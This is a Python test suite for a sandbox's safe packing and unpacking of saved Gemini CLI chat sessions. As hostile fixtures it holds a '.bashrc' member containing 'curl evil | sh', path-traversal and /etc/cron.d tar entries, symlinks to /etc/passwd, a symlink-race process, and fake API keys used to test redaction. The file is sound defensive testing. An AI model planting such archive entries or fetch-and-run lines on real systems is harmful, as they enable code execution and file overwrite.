"""Saved CLI sessions (ec2_agent.sandbox.pack_home_paths / unpack_home_paths): a PR's conversation is kept
after a job and put back into another sandbox's home for a follow-up. The archive is the CLI's own files, so
it is unpacked as hostile input: only regular files and directories under the profile's `session_state`
paths, bounded in size, never through a link."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from ec2_agent.sandbox import SandboxFault, pack_home_paths, unpack_home_paths

PATHS = (".gemini/tmp", ".gemini/projects.json")


def archive_of(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for info, data in members:
            info.size = len(data) if info.isfile() else 0
            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return buffer.getvalue()


def regular(name: str, data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def test_a_round_trip_keeps_files_and_leaves_out_links_and_other_paths(tmp_path: Path) -> None:
    home = tmp_path / "home"
    chats = home / ".gemini" / "tmp" / "ws" / "chats"
    chats.mkdir(parents=True)
    (chats / "session-1.jsonl").write_text('{"sessionId": "s"}\n')
    (home / ".gemini" / "projects.json").write_text("{}")
    (home / ".gemini" / "settings.json").write_text('{"apiKey": "not saved"}')
    (chats / "link").symlink_to("/etc/passwd")
    archive = pack_home_paths(home, PATHS, 100_000)
    assert archive is not None
    other = tmp_path / "other"
    other.mkdir()
    unpack_home_paths(archive, other, PATHS)
    assert (other / ".gemini/tmp/ws/chats/session-1.jsonl").read_text() == '{"sessionId": "s"}\n'
    assert (other / ".gemini/projects.json").read_text() == "{}"
    assert not (other / ".gemini/settings.json").exists()
    assert not (other / ".gemini/tmp/ws/chats/link").exists()


def test_nothing_to_save_is_none_and_too_much_is_refused(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    assert pack_home_paths(home, PATHS, 100_000) is None
    (home / ".gemini" / "tmp").mkdir(parents=True)
    (home / ".gemini" / "tmp" / "big").write_bytes(bytes(range(256)) * 4096)
    with pytest.raises(SandboxFault, match="exceed 1000 bytes"):
        pack_home_paths(home, PATHS, 1000)


def test_a_rename_applies_before_the_paths_are_checked(tmp_path: Path) -> None:
    archive = archive_of(regular(".gemini/tmp/ws/chats/session-2026-11-30T02-50-0123abcd.jsonl"))
    rename = (r"(chats/session-)\d{4}-\d\d-\d\dT\d\d-\d\d", r"\g<1>2000-01-01T00-00")
    unpack_home_paths(archive, tmp_path, PATHS, rename)
    assert (tmp_path / ".gemini/tmp/ws/chats/session-2000-01-01T00-00-0123abcd.jsonl").is_file()
    escape = (r"^\.gemini/tmp/", "../")
    with pytest.raises(SandboxFault, match="outside"):
        unpack_home_paths(archive, tmp_path / "again", PATHS, escape)


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, b""


def _device(name: str) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = tarfile.CHRTYPE
    return info, b""


@pytest.mark.parametrize(
    ("member", "refusal"),
    [
        (regular(".bashrc", b"curl evil | sh"), "outside"),
        (regular(".gemini/settings.json"), "outside"),
        (regular("/etc/cron.d/x"), "outside"),
        (regular(".gemini/tmp/../../.bashrc"), "outside"),
        (_link(".gemini/tmp/ws", "/"), "not a file or a directory"),
        (_link(".gemini/tmp/hard", "/etc/passwd", tarfile.LNKTYPE), "not a file or a directory"),
        (_device(".gemini/tmp/null"), "not a file or a directory"),
    ],
)
def test_a_hostile_archive_is_refused_whole(
    tmp_path: Path, member: tuple[tarfile.TarInfo, bytes], refusal: str
) -> None:
    archive = archive_of(regular(".gemini/tmp/ws/chats/ok.jsonl"), member)
    with pytest.raises(SandboxFault, match=refusal):
        unpack_home_paths(archive, tmp_path, PATHS)
    assert not list(tmp_path.iterdir()), "nothing may be unpacked from a refused archive"


def test_a_bomb_and_garbage_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ec2_agent.sandbox.ARCHIVE_MAX_BYTES", 1000)
    with pytest.raises(SandboxFault, match="more than 1000 bytes"):
        unpack_home_paths(archive_of(regular(".gemini/tmp/zeros", bytes(5000))), tmp_path, PATHS)
    with pytest.raises(SandboxFault, match="cannot be unpacked"):
        unpack_home_paths(b"not a gzip tar", tmp_path, PATHS)
    assert not list(tmp_path.iterdir())


def test_a_link_on_the_way_refuses_the_save_and_the_load(tmp_path: Path) -> None:
    """The CLI may turn `~/.gemini` into a link (to the developer's own ~/.gemini in local mode): the saved
    paths are then neither read through it nor written through it."""
    outside = tmp_path / "outside"
    (outside / "tmp").mkdir(parents=True)
    (outside / "tmp" / "private.jsonl").write_text("someone else's chat")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gemini").symlink_to(outside)
    with pytest.raises(SandboxFault, match="link"):
        pack_home_paths(home, PATHS, 100_000)
    with pytest.raises(SandboxFault, match="link"):
        unpack_home_paths(archive_of(regular(".gemini/tmp/ws/chats/a.jsonl")), home, PATHS)
    assert sorted(p.name for p in (outside / "tmp").iterdir()) == ["private.jsonl"]


def test_a_key_in_a_chat_log_is_screened_before_it_is_kept(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".gemini" / "tmp").mkdir(parents=True)
    key = "ghp_" + "a1B2" * 9
    (home / ".gemini" / "tmp" / "chat.jsonl").write_text(f'{{"text": "token {key}"}}\n')
    archive = pack_home_paths(home, PATHS, 100_000)
    assert archive is not None
    unpack_home_paths(archive, tmp_path / "other", PATHS)
    kept = (tmp_path / "other" / ".gemini" / "tmp" / "chat.jsonl").read_text()
    assert key not in kept and "[redacted" in kept


def test_a_chat_log_that_is_not_utf8_is_screened_too_and_its_other_bytes_kept(tmp_path: Path) -> None:
    """One byte that is not UTF-8 (0xff) used to keep the whole file unscreened."""
    home = tmp_path / "home"
    (home / ".gemini" / "tmp").mkdir(parents=True)
    key = "sk-ant-api03-" + "k3Y" * 14
    raw = f'{{"text": "ANTHROPIC_API_KEY={key}"}}\n'.encode() + b"\xff\x00\xc3(" + bytes(range(256))
    (home / ".gemini" / "tmp" / "chat.jsonl").write_bytes(raw)
    (home / ".gemini" / "tmp" / "blob.bin").write_bytes(bytes(range(256)) * 64)
    archive = pack_home_paths(home, PATHS, 100_000)
    assert archive is not None
    unpack_home_paths(archive, tmp_path / "other", PATHS)
    kept = (tmp_path / "other" / ".gemini" / "tmp" / "chat.jsonl").read_bytes()
    assert key.encode() not in kept and b"[redacted api key]" in kept
    assert kept.endswith(b"\xff\x00\xc3(" + bytes(range(256)))
    assert (tmp_path / "other" / ".gemini" / "tmp" / "blob.bin").read_bytes() == bytes(range(256)) * 64


def test_the_credentials_the_cli_was_given_are_redacted_by_value(tmp_path: Path) -> None:
    """A model-service key with no token shape, as the CLI might log it: raw, JSON-escaped, base64 (an
    `Authorization: Basic` header) and in a file that is not UTF-8."""
    key = "opaque-model-service-key-0123456789"
    home = tmp_path / "home"
    (home / ".gemini" / "tmp").mkdir(parents=True)
    basic = base64.b64encode(f"user:{key}".encode()).decode()
    log = json.dumps({"env": f"{key}", "quoted": f'"{key}"', "header": f"Basic {basic}"}) + "\n"
    (home / ".gemini" / "tmp" / "log.jsonl").write_text(log)
    (home / ".gemini" / "tmp" / "raw.bin").write_bytes(b"\xff" + key.encode() + b"\xfe")
    archive = pack_home_paths(home, PATHS, 100_000, given=(key, "short"))
    assert archive is not None
    unpack_home_paths(archive, tmp_path / "other", PATHS)
    saved = tmp_path / "other" / ".gemini" / "tmp"
    kept = (saved / "log.jsonl").read_text()
    assert key not in kept and basic[8:] not in kept and kept.count("[redacted credential]") == 3
    assert (saved / "raw.bin").read_bytes() == b"\xff[redacted credential]\xfe"


def test_a_file_too_large_to_screen_refuses_the_save(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Never kept unscreened: a file over the screen's cap refuses the whole save (the PR's next follow-up
    starts a new conversation)."""
    monkeypatch.setattr("ec2_agent.secret_screen.SCREEN_MAX_CHARS", 1000)
    home = tmp_path / "home"
    (home / ".gemini" / "tmp").mkdir(parents=True)
    (home / ".gemini" / "tmp" / "small.jsonl").write_bytes(b"x" * 1000)
    assert pack_home_paths(home, PATHS, 100_000) is not None
    (home / ".gemini" / "tmp" / "chat.jsonl").write_bytes(b"x" * 1001)
    with pytest.raises(SandboxFault, match="too large to screen"):
        pack_home_paths(home, PATHS, 100_000)


def test_a_file_over_the_unpacked_budget_is_refused_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ec2_agent.sandbox.ARCHIVE_MAX_BYTES", 1000)
    home = tmp_path / "home"
    (home / ".gemini" / "tmp").mkdir(parents=True)
    (home / ".gemini" / "tmp" / "zeros").write_bytes(bytes(5000))  # compresses far below any limit
    with pytest.raises(SandboxFault, match="more than 1000 bytes"):
        pack_home_paths(home, PATHS, 100_000)


def test_names_a_rename_joins_keep_the_largest_file(tmp_path: Path) -> None:
    """After a loaded session, Gemini CLI leaves the session's own file and a metadata-only one for the same
    id, both saved; renamed back they share one name, and the conversation must win."""
    rename = (r"(chats/session-)\d{4}-\d\d-\d\dT\d\d-\d\d", r"\g<1>2000-01-01T00-00")
    full = ".gemini/tmp/ws/chats/session-2000-01-01T00-00-0123abcd.jsonl"
    meta = ".gemini/tmp/ws/chats/session-2026-11-30T03-10-0123abcd.jsonl"
    archive = archive_of(regular(full, b"the whole conversation"), regular(meta, b"{}"))
    unpack_home_paths(archive, tmp_path, PATHS, rename)
    assert (tmp_path / full).read_bytes() == b"the whole conversation"
    assert [p.name for p in (tmp_path / full).parent.iterdir()] == [Path(full).name]


def test_an_archive_that_fails_while_extracting_leaves_the_home_as_it_was(tmp_path: Path) -> None:
    """A member `x` then `x/y` fails midway (x is a file): it used to leave the members before it in the
    home. Extraction goes into a staging directory beside the home, which is removed."""
    slot = tmp_path / "slot"
    (slot / "home" / ".gemini" / "tmp").mkdir(parents=True)
    (slot / "home" / ".gemini" / "tmp" / "mine.jsonl").write_text("the running CLI's")
    archive = archive_of(
        regular(".gemini/tmp/first.jsonl"), regular(".gemini/tmp/x"), regular(".gemini/tmp/x/y")
    )
    with pytest.raises(SandboxFault, match="cannot be unpacked"):
        unpack_home_paths(archive, slot / "home", PATHS)
    assert [p.name for p in (slot / "home" / ".gemini" / "tmp").iterdir()] == ["mine.jsonl"]
    assert [p.name for p in slot.iterdir()] == ["home"], "the staging directory is removed"


def test_a_home_that_holds_a_file_where_the_archive_has_a_directory_is_left_as_it_was(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".gemini" / "tmp").mkdir(parents=True)
    (home / ".gemini" / "tmp" / "ws").write_text("a file here")
    archive = archive_of(regular(".gemini/tmp/a.jsonl"), regular(".gemini/tmp/ws/chats/b.jsonl"))
    with pytest.raises(SandboxFault, match=r"\.gemini/tmp/ws is not what the archive holds there"):
        unpack_home_paths(archive, home, PATHS)
    assert sorted(p.name for p in (home / ".gemini" / "tmp").iterdir()) == ["ws"]


def test_a_load_merges_into_what_the_home_holds(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".gemini" / "tmp" / "ws").mkdir(parents=True)
    (home / ".gemini" / "tmp" / "ws" / "mine.jsonl").write_text("the running CLI's")
    (home / ".gemini" / "projects.json").write_text("{}")
    archive = archive_of(
        regular(".gemini/tmp/ws/saved.jsonl", b"saved"), regular(".gemini/projects.json", b"[]")
    )
    unpack_home_paths(archive, home, PATHS)
    assert sorted(p.name for p in (home / ".gemini" / "tmp" / "ws").iterdir()) == [
        "mine.jsonl",
        "saved.jsonl",
    ]
    assert (home / ".gemini" / "projects.json").read_bytes() == b"[]"


def _flipper(parent: Path, name: str, outside: Path) -> subprocess.Popen[bytes]:
    """A real process of the agent's uid (local mode: the CLI's) that keeps swapping `parent/name` between
    its directory and a link to `outside`, as fast as it can, until killed."""
    code = (
        "import os, sys\n"
        "parent, name, outside = sys.argv[1:4]\n"
        "fd = os.open(parent, os.O_RDONLY | os.O_DIRECTORY)\n"
        "print('ready', flush=True)\n"
        "while True:\n"
        "    try:\n"
        "        os.rename(name, name + '.real', src_dir_fd=fd, dst_dir_fd=fd)\n"
        "        os.symlink(outside, name, dir_fd=fd)\n"
        "        os.unlink(name, dir_fd=fd)\n"
        "        os.rename(name + '.real', name, src_dir_fd=fd, dst_dir_fd=fd)\n"
        "    except OSError:\n"
        "        pass\n"
    )
    writer = subprocess.Popen(
        [sys.executable, "-c", code, str(parent), name, str(outside)], stdout=subprocess.PIPE
    )
    assert writer.stdout is not None and writer.stdout.readline() == b"ready\n"
    return writer


def test_a_racing_process_never_gets_a_file_outside_the_home_saved(tmp_path: Path) -> None:
    """Local mode: a process of the CLI's uid alive during the save swaps a directory for a link to another
    slot's tree mid-walk. Whatever the scheduling, the save either fails (SandboxFault) or holds only the
    home's own files: every directory is opened relative to its parent with O_NOFOLLOW."""
    outside = tmp_path / "slots" / "2" / "tree"
    outside.mkdir(parents=True)
    for n in range(50):  # the names the walk listed in `a`: read through a link, they would be these
        (outside / f"chat-{n}.jsonl").write_text("ANOTHER OWNER'S SOURCE\n")
    home = tmp_path / "home"
    sessions = home / ".gemini" / "tmp"
    for name in ("a", "b"):
        (sessions / name).mkdir(parents=True)
        for n in range(50):
            (sessions / name / f"chat-{n}.jsonl").write_text(f"{name} {n}\n" * 200)
    writer = _flipper(sessions, "a", outside)
    outcomes = {"saved": 0, "refused": 0}
    try:
        for _ in range(30):
            try:
                archive = pack_home_paths(home, PATHS, 10_000_000)
            except SandboxFault:
                outcomes["refused"] += 1
                continue
            assert archive is not None
            outcomes["saved"] += 1
            with tarfile.open(fileobj=io.BytesIO(archive), mode="r:gz") as saved:
                for member in saved.getmembers():
                    data = saved.extractfile(member).read() if member.isfile() else b""  # type: ignore[union-attr]
                    assert b"ANOTHER OWNER" not in data
    finally:
        writer.kill()
        writer.wait()
    assert sum(outcomes.values()) == 30


def test_a_racing_process_never_gets_a_load_written_outside_the_home(tmp_path: Path) -> None:
    """Local mode: a process of the CLI's uid flips `~/.gemini/tmp/p` between a directory and a link to a
    directory of the host while a saved session is loaded. Whatever the scheduling, nothing is written
    outside the home (the unpack writes into a staging directory the CLI cannot name, and moves into the
    home through descriptors opened with O_NOFOLLOW)."""
    outside = tmp_path / "agent-owned"
    outside.mkdir()
    archive = archive_of(*(regular(f".gemini/tmp/p/f{i}", b"planted") for i in range(2000)))
    writer = None
    try:
        for attempt in range(10):
            home = tmp_path / f"home{attempt}"
            (home / ".gemini" / "tmp" / "p").mkdir(parents=True)
            writer = _flipper(home / ".gemini" / "tmp", "p", outside)
            with contextlib.suppress(SandboxFault):
                unpack_home_paths(archive, home, PATHS)
            writer.kill()
            writer.wait()
            writer = None
            assert list(outside.iterdir()) == []
    finally:
        if writer is not None:
            writer.kill()
            writer.wait()
